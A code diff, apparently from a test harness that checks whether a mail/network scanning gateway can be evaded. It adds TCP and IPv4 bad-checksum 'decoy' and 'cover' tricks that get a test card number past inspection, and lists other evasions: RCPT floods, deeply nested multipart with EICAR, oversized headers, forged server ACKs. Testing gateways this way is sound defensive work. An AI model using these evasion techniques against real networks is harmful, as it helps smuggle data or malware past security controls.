@@ -236,19 +236,40 @@ def whole_message(make):
 
 
 # -- decoys -------------------------------------------------------------------------
-def bad_checksum_decoy(flow, r, msg_id, opts):
-    """The card's segment with a wrong TCP checksum (the server drops it), then the same
-    bytes harmless with a good one: the server gets the harmless message."""
-    data, at = card_split(msg_id)
-    s, e = at - 6, at + len(CARD) + 6
-    if not head_then_rest(flow, r, data, s):
-        return
-    base = flow.snd_nxt
-    flow.send_raw("PA", base, data[s:e], bad_checksum=True)
-    flow.poll(0.1)
-    rest = harmless(data[s:e], s, at) + data[e:]
-    r["acked_all"] = flow.send_stream(rest, base=base, timeout=5)
-    session.end(flow, r)
+def bad_checksum_decoy(which):
+    def play(flow, r, msg_id, opts):
+        """The card's segment with a wrong checksum (WHICH: "tcp", or "ip" for the IPv4
+        header's; the server drops it), then the same bytes harmless with a good one:
+        the server gets the harmless message."""
+        data, at = card_split(msg_id)
+        s, e = at - 6, at + len(CARD) + 6
+        if not head_then_rest(flow, r, data, s):
+            return
+        base = flow.snd_nxt
+        flow.send_raw("PA", base, data[s:e], bad_checksum=which)
+        flow.poll(0.1)
+        rest = harmless(data[s:e], s, at) + data[e:]
+        r["acked_all"] = flow.send_stream(rest, base=base, timeout=5)
+        session.end(flow, r)
+    return play
+
+
+def bad_checksum_cover(which):
+    def play(flow, r, msg_id, opts):
+        """The other way round: the card's bytes first go harmless with a wrong checksum
+        (WHICH as above; the server drops them), then with the card and a good one, as
+        a sender retransmits: a gateway that took the dropped copy for the data lets the
+        card through unscanned."""
+        data, at = card_split(msg_id)
+        s, e = at - 6, at + len(CARD) + 6
+        if not head_then_rest(flow, r, data, s):
+            return
+        base = flow.snd_nxt
+        flow.send_raw("PA", base, harmless(data[s:e], s, at), bad_checksum=which)
+        flow.poll(0.1)
+        r["acked_all"] = flow.send_stream(data[s:], base=base, timeout=5)
+        session.end(flow, r)
+    return play
 
 
 def decoy_without_ack(forge_server_ack):
@@ -302,7 +323,10 @@ ATTACKS = [
     Attack("rcpt-flood", "6 memory / pending commands", f"{RCPT_FLOOD} pipelined RCPTs, then the card", rcpt_flood),
     Attack("nested-33", "10 parser caps (depth)", "multipart nested 33 deep: card + EICAR innermost", whole_message(nested_message)),
     Attack("content-type-64k", "10 parser caps (header)", "70 KiB Content-Type, boundary last, card in base64", whole_message(long_content_type_message)),
-    Attack("bad-checksum-decoy", "classic decoy", "card with a wrong checksum, then harmless", bad_checksum_decoy),
+    Attack("bad-checksum-decoy", "classic decoy", "card with a wrong checksum, then harmless", bad_checksum_decoy("tcp")),
+    Attack("bad-checksum-cover", "classic decoy", "harmless with a wrong checksum, then the card", bad_checksum_cover("tcp")),
+    Attack("bad-ip-checksum-decoy", "classic decoy", "card with a wrong IPv4 header checksum, then harmless", bad_checksum_decoy("ip")),
+    Attack("bad-ip-checksum-cover", "classic decoy", "harmless with a wrong IPv4 header checksum, then the card", bad_checksum_cover("ip")),
     Attack("no-ack-decoy", "classic decoy", "harmless without ACK (Linux discards it), then the card", decoy_without_ack(False)),
     Attack("forged-server-ack", "8 direction from addresses", "decoy without ACK, forged server ACK from outside, card", decoy_without_ack(True)),
 ] + [
